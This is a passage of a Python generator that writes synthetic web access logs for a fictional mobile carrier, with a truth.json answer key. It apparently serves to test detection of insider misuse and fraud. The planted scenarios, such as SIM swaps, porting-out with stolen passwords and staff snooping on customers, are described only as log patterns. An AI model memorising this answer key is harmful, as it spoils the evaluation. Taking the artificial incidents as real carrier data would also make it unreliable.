            ["backoffice"],
            [p.user],
            "A member of dealer management who leaves soon exports contract lists every day, shop after shop.",
            "The people list has the last day; exports rise from one or two a week to several a day, at the end of the day.",
        )

    def m_batch(self) -> None:
        """A program's account is used by hand."""
        k, h, ip = (
            self.day("backoffice", office=True),
            18.2 + self.r.random(),
            f"10.20.5.{self.r.randrange(60, 80)}",
        )
        svc = Person(
            "SETO\\svc-mnp", "", "", "backoffice", "system", "", 0, 0, set(), 1, EDGE.format(v=138)
        )
        for _ in range(self.r.randrange(16, 26)):
            h += self.r.uniform(0.006, 0.03)
            self.look(svc, k, h, f"/customers/detail.aspx?no={self.contract()}", ip=ip)
        self.look(svc, k, h + 0.02, "/export/contracts.csv?shop=001", ip=ip, size=310_000)
        self.tell(
            "medium",
            "place",
            [k],
            ["backoffice"],
            [svc.user, ip],
            "The batch account of number portability is used by hand from a desk to read customers.",
            "A browser and a desk address where there was one Java client on one server at two in the night; other pages; an export.",
        )

    def m_vip(self) -> None:
        """Curiosity about a known person."""
        k, c, actors, sites = self.day("callcentre", 2), self.vips[0], [], set()
        for j in range(self.r.randrange(7, 10)):
            kk = k + j // 6
            clerks = [p for shop in ("002", "003", "006", "010", "012") for p in self.clerks[shop]]
            p = self.free(self.agents if j % 3 else clerks, kk)
            s, e = self.duty[p.user, kk]
            self.look(
                p,
                kk,
                self.r.uniform(s + 0.5, e - 0.3),
                f"/cc/customer/{c}" if j % 3 else f"/counter/contracts/{c}",
            )
            actors.append(p.user)
            sites.add(p.site)
        self.tell(
            "medium",
            "other",
            [k, k + 1],
            sorted(sites),
            actors,
            "A player of the local team is in the news, and agents and clerks look at his contract.",
            "A watched person's record opened by several people of several sites in two days, without search, call note or order.",
        )

    def m_phone_url(self) -> None:
        """A release puts telephone numbers into addresses."""
        k = self.day("callcentre", 3, office=True)
        last = min(self.n - 1, k + 1)
        t0, t1 = self.at(k, 9.5), self.at(last, 16)

        def change(x: Row) -> Row:
            if x.target == "/cc/search" and t0 <= x.t < t1 and x.seq % 3:
                return x._replace(
                    method="GET",
                    target=f"/cc/search?tel=0{[7, 8, 9][x.seq % 7 % 3]}0{x.seq * 7907 % 90000000 + 10000000}",
                )
            return x

        changed = self.rewrite("callcentre", change)
        self.tell(
            "medium",
            "other",
            {k, last},
            ["callcentre"],
            ["callcentre"],
            "After a release the call centre's search sends telephone numbers in the address.",
            "GET /cc/search?tel=0… where there was only a POST without query.",
            changed,
        )

    def m_script(self) -> None:
        """An agent has a script read customers in the lunch break."""
        k, h = self.day("callcentre", office=True), 12.1 + self.r.random() * 0.4
        p = self.free((a for a in self.agents[1:] if a.start < 10), k)
        for _ in range(self.r.randrange(60, 95)):
            h += self.r.uniform(7.6, 8.6) / 3600
            self.look(p, k, h, f"/cc/customer/{self.contract()}")
        self.tell(
            "medium",
            "amount",
            [k],
            ["callcentre"],
            [p.user],
            "An agent's account reads a customer every eight seconds for a part of the lunch break.",
            "Even distances that no hand makes, no search, no note; several times a usual day's customers.",
        )

    def m_vendor(self) -> None:
        """The vendor's maintenance account reads customers."""
        span = 16 if self.n > 50 else 9
        k0 = self.day("backoffice", span)
        ks = [
            k for k in range(k0, k0 + span) if self.days[k].weekday() < 5 and self.r.random() < 0.6
        ] or [k0]
        for k in ks:
            h = self.r.uniform(10.3, 14)
            for j in range(self.r.randrange(3, 8)):
                h += self.r.uniform(0.02, 0.15)
                self.look(
                    self.maint,
                    k,
                    h,
                    self.r.choice(["/admin/health", "/admin/jobs"])
                    if j == 0
                    else f"/customers/detail.aspx?no={self.contract()}",
                )
        self.tell(
            "medium",
            "other",
            ks,
            ["backoffice"],
            [self.maint.user],
            "The vendor's maintenance account begins to read customers' records, a few a day.",
            "The account had only been on administration pages, on Thursdays; now on other days and in records for which it has no right in the list.",
        )

    def h_slow_agent(self) -> None:
        """A few customers more each day."""
        span = 26 if self.n > 50 else 19
        k0 = max(14, self.n - span - self.r.randrange(0, 3))
        p = self.free((a for a in self.agents[1:] if a.unlogged < 0.07), days=range(k0, k0 + span))
        ks = self.working(p, k0, span)
        for k in ks:
            s, e = self.duty[p.user, k]
            for _ in range(self.r.randrange(4, 9)):
                h, c = self.r.uniform(s + 0.4, e - 0.3), self.contract()
                self.look(p, k, h, f"/cc/customer/{c}")
                if self.r.random() < 0.4:
                    self.look(p, k, h + self.r.uniform(0.004, 0.014), f"/cc/customer/{c}/billing")
        self.tell(
            "hard",
            "weeks",
            ks,
            ["callcentre"],
            [p.user],
            "An agent looks at half a dozen customers a day who did not call, for weeks.",
            "Pages without search before and note after: from one a day to six or seven, on each working day; the whole amount stays near that of the colleagues.",
        )

    def h_stalker(self) -> None:
        """One person's calls, again and again."""
        span, shop = 24 if self.n > 50 else 17, self.r.choice(["002", "004", "008", "012", "016"])
        k0, c = max(14, self.n - span - self.r.randrange(0, 4)), self.client_of(shop)
        p = self.free((x for x in self.clerks[shop] if x.start < 10), days=range(k0, k0 + span))
        ks = [k for k in self.working(p, k0, span) if self.r.random() < 0.85]
        for k in ks:
            s, e = self.duty[p.user, k]
            for _ in range(self.r.choice([1, 1, 2])):
                self.look(p, k, self.r.uniform(s + 0.3, e - 0.3), f"/counter/contracts/{c}/calls")
        self.tell(
            "hard",
            "weeks",
            ks,
            [f"shop-{shop}"],
            [p.user],
            "A clerk reads the list of calls of one and the same customer on most of his working days.",
            "One subject, only the calls page, no search, never an identity check or an order; other customers' calls pages are not opened twice.",
        )

    def h_kyc(self) -> None:
        """Old identity documents are opened without need."""
        span = 22 if self.n > 50 else 16
        k0 = max(14, self.n - span - self.r.randrange(0, 4))
        p = self.free(self.office["identity"][4:], days=range(k0, k0 + span))
        ks = self.working(p, k0, span)
        for k in ks:
            s, e = self.duty[p.user, k]
            for _ in range(self.r.randrange(3, 7)):
                h, a = self.r.uniform(s + 0.5, e - 0.2), self.old(k, 4, 40)
                self.image(p, k, h, a)
                self.image(p, k, h + 0.002, a, "back")
        self.tell(
            "hard",
            "weeks",
            ks,
            ["backoffice"],
            [p.user],
            "A checker opens both sides of identity documents whose applications were decided long ago, a few each day.",
            "Images without the application's page before and a decision after, of applications days to weeks old; colleagues have one in a few days.",
        )

    def h_mnp_ring(self) -> None:
        """A ring ports out numbers of customers whose passwords it has."""
        span, net, actors = 13 if self.n > 50 else 9, f"139.180.{self.r.randrange(130, 220)}", []
        k0, ua = (
            self.day("portal", span),
            "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36",
        )
        ks = [k for k in range(k0, k0 + span) if self.r.random() < 0.75 or k in (k0, k0 + span - 1)]
        for k in ks:
            for _ in range(self.r.choice([1, 1, 2])):
                c, ip, sess, t = (
                    self.contract(),
                    f"{net}.{self.r.randrange(2, 250)}",
                    self.sid(),
                    self.at(k, self.r.uniform(10, 20)),
                )
                for s, m, u, st in [
                    (0, "POST", "/my/login", 302),
                    (9, "GET", f"/my/contracts/{c}", 200),
                    (15, "POST", "/my/mnp/reserve", 302),
                ]:
                    self.add(
                        "portal",
                        t + timedelta(seconds=s + self.r.randrange(0, 3)),
                        ip,
                        f"c{c}",
                        m,
                        u,
                        st,
                        ua=ua,
                        sess=sess,
                    )
                actors += [f"c{c}", ip]
        self.tell(
            "hard",
            "outsider",
            ks,
            ["portal"],
            actors,
            "Somebody with customers' passwords reserves the porting out of their numbers, one or two a day.",
            "Different customers, never before there, from one network of a hosting company with one old browser, a quarter of a minute from log-in to reservation.",
        )

    def h_simswap(self) -> None:
        """An agent chooses, a clerk gives the SIM, the account is emptied."""
        span, shop = 14 if self.n > 50 else 10, self.r.choice(["007", "008", "011", "013"])
        k0 = max(16, self.day(f"shop-{shop}", span))
        clerk = self.free((x for x in self.clerks[shop] if x.start < 10), days=range(k0, k0 + span))
        agent = self.free(self.agents[1:], days=range(k0 - 2, k0 + span))
        actors, ks, days = (
            [clerk.user, agent.user],
            set(),
            [k for k in self.working(clerk, k0, span) if k != self.storm],
        )
        for k in sorted(self.r.sample(days, min(len(days), 5))):
            c, before = (
                self.contract(),
                [j for j in range(k - 4, k) if j >= 14 and (agent.user, j) in self.duty],
            )
            if before:
                s, e = self.duty[agent.user, before[-1]]
                h = self.r.uniform(s + 1, e - 1)
                self.look(agent, before[-1], h, f"/cc/customer/{c}")
                self.look(agent, before[-1], h + 0.01, f"/cc/customer/{c}/billing")
                ks.add(before[-1])
            s, e = self.duty[clerk.user, k]
            h = self.r.uniform(s + 1, min(e - 0.6, 18.3))
            self.look(clerk, k, h, f"/counter/contracts/{c}")
            self.look(clerk, k, h + 0.02, f"/counter/contracts/{c}/sim", method="POST")
            cell, h = self.cgnat(), h + self.r.uniform(0.4, 2.5)
            self.add(
                "portal",
                self.at(k, h),
                cell,
                f"c{c}",
                "POST",
                "/my/password/reset",
                302,
                ua=PHONES[3],
            )
            self.portal_session(
                k,
                h + 0.03,
                c,
                cell,
                PHONES[3],
                pages=["/my/profile", "POST /my/profile/email", "POST /my/pay/limit"],
            )
            actors.append(f"c{c}")
            ks.add(k)
        self.tell(
            "hard",
            "weeks",
            ks,
            ["callcentre", f"shop-{shop}", "portal"],
            actors,
            "SIM swaps: an agent looks customers up, days later a clerk of one shop gives out a SIM without identity check, the portal account is taken over the same day.",
            "SIM exchanges without search and identity check, each after a look without a call and before a reset of the password, a new mail address and a higher pay limit.",
        )

    def h_borrowed(self) -> None:
        """The helper's account works in two shops at once."""
        p, wish = self.helper, 2 if self.n < 50 else 3
        ks = [
            k
            for k in range(14, self.n)
            if self.days[k].weekday() == 1 and (p.user, k) in self.duty and k != self.storm
        ][-wish:]
        for k in ks:
            s, e = self.duty[p.user, k]
            sess, h, ip = self.sid(), s + 1 + self.r.random(), f"10.31.3.{11 + self.r.randrange(4)}"
            self.look(p, k, h, "/counter/login", "shop-003", ip, sess, "POST")
            for _ in range(self.r.randrange(5, 9)):
                h = min(e - 0.3, h + self.r.uniform(0.3, 0.9))
                self.look(p, k, h, "/counter/search", "shop-003", ip, sess, "POST")
                self.look(
                    p,
                    k,
                    h + 0.005,
                    f"/counter/contracts/{self.client_of('003')}",
                    "shop-003",
                    ip,
                    sess,
                )
        self.tell(
            "hard",
            "place",
            ks,
            ["shop-003", "shop-005"],
            [p.user],
            "While the helper works at shop 005 on Tuesdays, somebody uses her account at her own shop 003.",
            "Two sessions of one person at two counters in the same hours; on all other Tuesdays only shop 005.",
        )

    def h_open_bill(self) -> None:
        """After a release bills open without a log-in."""
        k = self.day("portal", 3, office=True)
        ks = {k, min(self.n - 1, k + 1)}
        for kk in sorted(ks):
            for _ in range(self.r.randrange(3, 6)):
                self.add(
                    "portal",
                    self.at(kk, self.r.uniform(10, 23)),
                    f"66.249.79.{self.r.randrange(2, 30)}",
                    None,
                    "GET",
                    f"/my/contracts/{self.contract()}/bills/{self.days[kk] - timedelta(days=31):%Y%m}.pdf",
                    302,
                    ua=GOOGLEBOT,
                )
        t0, t1 = self.at(k, 9), self.at(max(ks), 24)
        changed = self.rewrite(
            "portal",
            lambda x: (
                x._replace(status=200, size=40_000 + x.seq % 50_000)
                if t0 <= x.t < t1 and x.user is None and "/bills/" in x.target
                else x
            ),
        )
        self.tell(
            "hard",
            "errors",
            ks,
            ["portal"],
            ["portal"],
            "After a release bills open without signing in, also to a crawler.",
            "Requests for bills without user or session, which were 302 to the log-in on all days before, are 200 with the size of a bill.",
            changed,
        )

    def choose(self) -> None:
        """Which incidents happen: a third of each grade; in a world of weeks at least half are slow."""
        r = self.r
        easy = [self.e_export, self.e_idor, self.e_silent, self.e_sqli, self.e_errors, self.e_probe]
        medium = [
            self.m_night,
            self.m_hijack,
            self.m_gap,
            self.m_batch,
            self.m_vip,
            self.m_phone_url,
            self.m_script,
        ]
        hard = [self.h_borrowed, self.h_open_bill]
        slow_e, slow_m = (
            [self.e_stuffing, self.e_leaver],
            [self.m_other_shop, self.m_spray, self.m_leaver_collect, self.m_vendor],
        )
        slow_h = [self.h_slow_agent, self.h_stalker, self.h_kyc, self.h_mnp_ring, self.h_simswap]
        if self.n > 50:
            plan = (
                slow_e
                + r.sample(easy, 2)
                + r.sample(slow_m, 2)
                + r.sample(medium, 2)
                + r.sample(slow_h, 3)
                + r.sample(hard, 1)
            )
        else:
            plan = (
                r.sample(easy + slow_e, 5)
                + r.sample(medium + slow_m, r.choice([5, 6]))
                + r.sample(hard + slow_h, r.choice([5, 6]))
            )
        for make in sorted(
            plan,
            key=lambda f: (
                f.__name__ in ("e_silent", "e_errors", "m_gap", "m_phone_url", "h_open_bill")
            ),
        ):  # changes of lines come last
            self.mark = self.seq  # lines from here on belong to the incident
            make()
        self.incidents.sort(key=lambda i: (i["first_day"], i["what"]))
        for j, i in enumerate(self.incidents):
            i["id"] = f"i{j + 1:02d}"


# -------------------------------------------------------------------- formats and files
def clf_time(t: datetime) -> str:
    """Apache's time."""
    return f"[{t.day:02d}/{'Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec'.split()[t.month - 1]}/{t:%Y:%H:%M:%S} +0900]"


def esc(value: str | None) -> str:
    """A quoted field's content."""
    return (value or "-").replace('"', '\\"')


def shop_line(x: Row) -> str:
    """The gateways' own Apache format."""
    return (
        f'{x.ip} {x.user or "-"} {clf_time(x.t)} "{x.method} {x.target} HTTP/1.1" {x.status} {x.size} {x.ms * 1000} "{esc(x.ua)}" '
        f'"{x.sess or "-"}"'
    )


def json_line(x: Row) -> str:
    """nginx, JSON, of the call centre."""
    return json.dumps(
        {
            "time": x.t.strftime("%Y-%m-%dT%H:%M:%S+09:00"),
            "addr": x.ip,
            "user": x.user or "",
            "method": x.method,
            "uri": x.target,
            "protocol": "HTTP/2.0",
            "status": x.status,
            "bytes": x.size,
            "seconds": x.ms / 1000,
            "referer": x.ref or "",
            "agent": x.ua,
            "sess": x.sess or "",
        },
        separators=(",", ":"),
    )


def ltsv_line(x: Row) -> str:
    """LTSV of the portal behind its load balancer."""
    peer = x.ip if x.ip.startswith("10.10.") else "10.10.0.4"
    return "\t".join(
        [
            f"time:{clf_time(x.t)}",
            f"host:{peer}",
            f"forwardedfor:{'-' if peer == x.ip else x.ip}",
            f"user:{x.user or '-'}",
            f"req:{x.method} {x.target} HTTP/1.1",
            f"status:{x.status}",
            f"size:{x.size}",
            f"reqtime:{x.ms / 1000:.3f}",
            f"referer:{x.ref or '-'}",
            f"ua:{x.ua}",
            f"session:{x.sess or '-'}",
        ]
    )


def vhost_line(x: Row) -> str:
    """Combined with the virtual host before it."""
    return (
        f'dealer.setomobile.example:443 {x.ip} - {x.user or "-"} {clf_time(x.t)} "{x.method} {x.target} HTTP/1.1" {x.status} {x.size} '
        f'"{esc(x.ref)}" "{esc(x.ua)}"'
    )


def iis_line(x: Row) -> str:
    """IIS W3C, in UTC."""
    path, _, query = x.target.partition("?")
    t = x.t - timedelta(hours=9)
    return f"{t:%Y-%m-%d %H:%M:%S} 10.20.0.10 {x.method} {path} {query or '-'} 443 {x.user or '-'} {x.ip} {x.ua.replace(' ', '+')} - {x.status} 0 0 {x.size} {x.ms}"


def alb_line(x: Row) -> str:
    """AWS application load balancer, in UTC."""
    t = x.t - timedelta(hours=9)
    stamp = f"{t:%Y-%m-%dT%H:%M:%S}.{x.seq % 1000000:06d}Z"
    return (
        f"https {stamp} app/seto-www/50dc6c495c0c9188 {x.ip}:{20000 + x.seq % 40000} 10.10.1.{20 + x.seq % 2}:80 0.001 {x.ms / 1000:.3f} 0.000 {x.status} {x.status} "
        f'{300 + x.seq % 200} {x.size} "{x.method} https://www.setomobile.example:443{x.target} HTTP/2.0" "{esc(x.ua)}" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 '
        f'arn:aws:elasticloadbalancing:ap-northeast-1:123456789012:targetgroup/www/73e2d6bc24d8a067 "Root=1-{x.seq:08x}-{x.seq * 2654435761 % 2**96:024x}" '
        f'"www.setomobile.example" "session-reused" 0 {stamp} "forward" "-" "-" "10.10.1.{20 + x.seq % 2}:80" "{x.status}" "-" "-"'
    )


SETTINGS = """\
# Setouchi Mobile: web access logs, read each night
timezone: Asia/Tokyo
locale: ja
business_hours: {{days: [mon, tue, wed, thu, fri, sat, sun], from: "08:30", to: "20:30"}}
user_types:
  - {{pattern: '^SETO\\\\svc-', type: system}}
  - {{pattern: '^c-monitor$', type: system}}
  - {{pattern: '^SETO\\\\(aud|maint)', type: contractor}}
  - {{pattern: '^SETO\\\\', type: staff}}
  - {{pattern: '^st[0-9]{{3}}-', type: staff}}
  - {{pattern: '^fr(?P<franchise>[0-9]{{3}})-', type: franchise}}
  - {{pattern: '^cc[0-9]{{4}}$', type: contractor}}
  - {{pattern: '^(c[0-9]{{8}}|corp-)', type: customer}}
context:
  people: people.csv
  privileges: privileges.csv
  watch: watch.csv
resources:
  counter:
    - {{id: counter-login, kind: login, path: /counter/login, methods: [POST], success: [302], failure: [401]}}
    - {{id: counter-logout, kind: logout, path: /counter/logout}}
    - {{id: counter-search, kind: list, path: /counter/search, level: 2, categories: [name, phone]}}
    - {{id: counter-contract, kind: record, path: "/counter/contracts/{{subject}}", level: 2, categories: [name, address, phone]}}
    - {{id: counter-calls, kind: record, path: "/counter/contracts/{{subject}}/calls", level: 3, categories: [phone, location]}}
    - {{id: counter-idcheck, kind: record, path: "/counter/contracts/{{subject}}/idcheck", level: 3, categories: [name, address]}}
    - {{id: counter-sim, kind: record, path: "/counter/contracts/{{subject}}/sim", level: 3, categories: [phone]}}
    - {{id: counter-order, kind: record, path: "/counter/contracts/{{subject}}/orders", level: 2, categories: [name]}}
  cc:
    - {{id: cc-login, kind: login, path: /cc/login, methods: [POST], success: [302], failure: [401]}}
    - {{id: cc-search, kind: list, path: /cc/search, level: 2, categories: [name, phone]}}
    - {{id: cc-customer, kind: record, path: "/cc/customer/{{subject}}", level: 2, categories: [name, address, phone]}}
    - {{id: cc-billing, kind: record, path: "/cc/customer/{{subject}}/billing", level: 3, categories: [name]}}
    - {{id: cc-usage, kind: record, path: "/cc/customer/{{subject}}/usage", level: 3, categories: [phone]}}
    - {{id: cc-suspend, kind: record, path: "/cc/customer/{{subject}}/suspend", level: 2, categories: [phone]}}
  my:
    - {{id: my-login, kind: login, path: /my/login, methods: [POST], success: [302], failure: [401]}}
    - {{id: my-contract, kind: record, path: "/my/contracts/{{subject}}", level: 2, categories: [name, address, phone]}}
    - {{id: my-usage, kind: record, path: "/my/contracts/{{subject}}/usage", level: 3, categories: [phone]}}
    - {{id: my-bill, kind: record, path: "/my/contracts/{{subject}}/bills/*", level: 3, categories: [name, address]}}
  office:
    - {{id: kyc-queue, kind: list, path: /kyc/queue, level: 2, categories: [name]}}
    - {{id: kyc-application, kind: record, path: "/kyc/application?no={{subject}}", level: 3, categories: [name, address, phone]}}
    - {{id: kyc-image, kind: record, path: "/kyc/image?no={{subject}}", level: 3, categories: [name, address]}}
    - {{id: mnp, kind: record, path: "/mnp/port?no={{subject}}", level: 2, categories: [name, phone]}}
    - {{id: mnp-api, kind: record, path: "/api/mnp/port?no={{subject}}", level: 2, categories: [phone]}}
    - {{id: customer, kind: record, path: "/customers/detail.aspx?no={{subject}}", level: 2, categories: [name, address, phone]}}
    - {{id: history, kind: record, path: "/customers/history.aspx?no={{subject}}", level: 2, categories: [name]}}
    - {{id: office-export, kind: export, path: "/export/*", level: 3, categories: [name, address, phone]}}
    - {{id: office-admin, kind: admin, path: "/admin/*", level: 1}}
  dealer:
    - {{id: dealer-login, kind: login, path: /dealer/login, methods: [POST], success: [302], failure: [401]}}
    - {{id: dealer-list, kind: list, path: /dealer/customers, level: 2, categories: [name]}}
    - {{id: dealer-customer, kind: record, path: "/dealer/customers/{{subject}}", level: 2, categories: [name, phone]}}
    - {{id: dealer-export, kind: export, path: "/dealer/export/*", level: 3, categories: [name, address, phone]}}
sites:
  - {{id: "shop-{{franchise}}", group: shops, domains: ["s{{franchise}}.counter.setomobile.example"], logs: ["shops/{{franchise}}/counter_access_log-*"], franchise: "{{franchise}}", roster: shops.csv, resources: counter, hours: business,
     format: '%a %u %t "%r" %>s %B %D "%{{User-Agent}}i" "%{{counter_sess}}C"'}}
  - {{id: callcentre, group: main, domains: [cc.setomobile.example], logs: ["callcentre/*.json.gz"], resources: cc, hours: always,
     format: '{{"time":"$time_iso8601","addr":"$remote_addr","user":"$remote_user","method":"$request_method","uri":"$request_uri","protocol":"$server_protocol","status":$status,"bytes":$body_bytes_sent,"seconds":$request_time,"referer":"$http_referer","agent":"$http_user_agent","sess":"$cookie_ccsess"}}'}}
  - {{id: portal, group: main, domains: [my.setomobile.example], logs: ["portal/access.ltsv*"], trusted_proxies: [10.10.0.4], resources: my, hours: always,
     format: "time:[$time_local]\\thost:$remote_addr\\tforwardedfor:$http_x_forwarded_for\\tuser:$remote_user\\treq:$request\\tstatus:$status\\tsize:$body_bytes_sent\\treqtime:$request_time\\treferer:$http_referer\\tua:$http_user_agent\\tsession:$cookie_my_sess"}}
  - {{id: backoffice, group: main, domains: [bo.setomobile.example], logs: ["backoffice/u_ex*.log"], format: auto, resources: office, hours: business}}
  - {{id: dealer, group: main, domains: [dealer.setomobile.example], logs: ["dealer/access.log*"], format: auto, resources: dealer, hours: business}}
  - {{id: www, group: public, domains: [www.setomobile.example], logs: ["www/*/*/*.log.gz"], format: auto, hours: always}}
"""
RIGHTS = {
    "shop": [
        "counter-search",
        "counter-contract",
        "counter-calls",
        "counter-idcheck",
        "counter-sim",
        "counter-order",
    ],
    "callcentre": ["cc-search", "cc-customer", "cc-billing", "cc-usage"],
    "callcentre-night": ["cc-search", "cc-customer", "cc-usage", "cc-suspend"],
    "partner-office": ["dealer-list", "dealer-customer", "dealer-export"],
    "identity": ["kyc-queue", "kyc-application", "kyc-image"],
    "mnp": ["mnp"],
    "billing": ["customer", "office-export"],
    "support": ["customer", "history"],
    "dealer-mgmt": ["customer", "office-export"],
    "it": ["office-admin"],
    "vendor": ["office-admin"],
}


def put(path: Path, lines: list[str], packed: bool) -> None:
    """Write a log file, packed without name and time."""
    path.parent.mkdir(parents=True, exist_ok=True)
    data = ("\n".join(lines) + "\n").encode()
    path.write_bytes(gzip.compress(data, 6, mtime=0) if packed else data)


def write_logs(w: World, logs: Path) -> None:
    """All log files, as the servers rotate them."""
    formats: dict[str, Callable[[Row], str]] = {
        "callcentre": json_line,
        "portal": ltsv_line,
        "backoffice": iis_line,
        "dealer": vhost_line,
        "www": alb_line,
    }
    for site in sorted(w.rows):
        files: dict[str, list[str]] = {}
        line = formats.get(site, shop_line)
        for x in sorted(w.rows[site], key=lambda x: (x.t.replace(microsecond=0), x.seq)):
            d, utc = x.t.date(), x.t - timedelta(hours=9)
            w.total[d] = w.total.get(d, 0) + 1
            recent = d >= w.days[-1]
            name = {
                "callcentre": f"callcentre/{d}.json.gz",
                "portal": f"portal/access.ltsv.{d:%Y%m%d}" + ("" if recent else ".gz"),
                "backoffice": f"backoffice/u_ex{utc:%y%m%d}.log",
                "dealer": f"dealer/access.log-{d:%Y%m%d}" + ("" if recent else ".gz"),
                "www": f"www/{utc:%Y/%m}/123456789012_elasticloadbalancing_ap-northeast-1_app.seto-www_{utc:%Y%m%dT}{utc.hour // 12 * 12 + 12:02d}00Z.log.gz",
            }.get(site, f"shops/{site[5:]}/counter_access_log-{d:%Y%m%d}.gz")
            files.setdefault(name, []).append(line(x))
        for name, lines in files.items():
            if site == "backoffice":
                lines = [
                    "#Software: Microsoft Internet Information Services 10.0",
                    "#Version: 1.0",
                    f"#Date: {lines[0][:19]}",
                    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus "
                    "sc-win32-status sc-bytes time-taken",
                ] + lines
            put(logs / name, lines, name.endswith(".gz"))
            if site == f"shop-{w.doubled[1]}" and f"{w.days[w.doubled[0]]:%Y%m%d}" in name:
                put(logs / name.replace(".gz", "-1"), lines, False)  # sent a second time, unpacked


def write_context(w: World, out: Path) -> None:
    """Settings and what they name."""
    (out / "mimamori.yaml").write_text(SETTINGS.format(), encoding="utf-8")

    def table(name: str, head: str, rows: Iterable[list[str]]) -> None:
        with (out / name).open("w", encoding="utf-8", newline="") as f:
            writer = csv.writer(f, lineterminator="\n")
            writer.writerow(head.split(","))
            writer.writerows(rows)

    table(
        "people.csv",
        "user,person,name,department,site,manager,type,company,country,joined_on,left_on",
        (
            [
                p.user,
                f"P{j:04d}",
                p.name,
                p.dept,
                p.site,
                p.manager,
                p.kind,
                p.company,
                "JP",
                str(p.joined or ""),
                str(p.left or ""),
            ]
            for j, p in enumerate(w.people + [w.auditor, w.maint])
        ),
    )
    table(
        "privileges.csv",
        "user,department,resource,from,to",
        [["", dept, x, "", ""] for dept, xs in RIGHTS.items() for x in xs]
        + [
            [w.auditor.user, "", x, str(w.auditor.joined), str(w.auditor.left)]
            for x in ("kyc-application", "customer")
        ]
        + [["SETO\\svc-mnp", "", "mnp-api", "", ""]],
    )
    table(
        "watch.csv",
        "subject,kind,user,reason",
        [[str(c), "vip", "", "地元で知られた方"] for c in w.vips]
        + [[str(c), "decoy", "", "おとり"] for c in w.decoys],
    )
    owner = {s: company for company, shops in PARTNERS.values() for s in shops} | {
        NEW_SHOP: PARTNERS["kaede"][0]
    }
    table(
        "shops.csv",
        "franchise,opened_on,closed_on,name",
        (
            [
                s,
                str(w.days[w.opening]) if s == NEW_SHOP else "2019-04-01",
                "",
                f"{owner[s]} {s}号店",
            ]
            for s in sorted(owner)
        ),
    )


def main() -> None:
    """Draw the company and write it down."""
    a = argparse.ArgumentParser(description=__doc__)
    a.add_argument("--seed", type=int, default=7)
    a.add_argument("--days", type=int, default=35)
    a.add_argument("--out", type=Path, required=True)
    args = a.parse_args()
    w = World(args.seed, args.days)
    w.background()
    w.choose()
    args.out.mkdir(parents=True, exist_ok=True)
    write_logs(w, args.out / "logs")
    write_context(w, args.out)
    about = (
        "Setouchi Mobile, a regional mobile carrier: seventeen shops of its own and of five partner companies with counter terminals, an outsourced call centre with a night desk, "
        "a customer portal mostly used from the carrier's own mobile network, a back office for identity checks and number portability, an extranet for the partners and a public site."
    )
    truth = {
        "seed": args.seed,
        "days": [str(d) for d in w.days],
        "about": about,
        "incidents": w.incidents,
        "annoyances": w.annoyances,
    }
    (args.out / "truth.json").write_text(
        json.dumps(truth, ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
    )
    counts = sorted(w.total.values())
    print(
        f"{len(w.days)} days to {w.days[-1]}, {sum(counts)} lines, {counts[0]} to {counts[-1]} a day, {len(w.incidents)} incidents, {len(w.annoyances)} annoyances"
    )


if __name__ == "__main__":
    main()
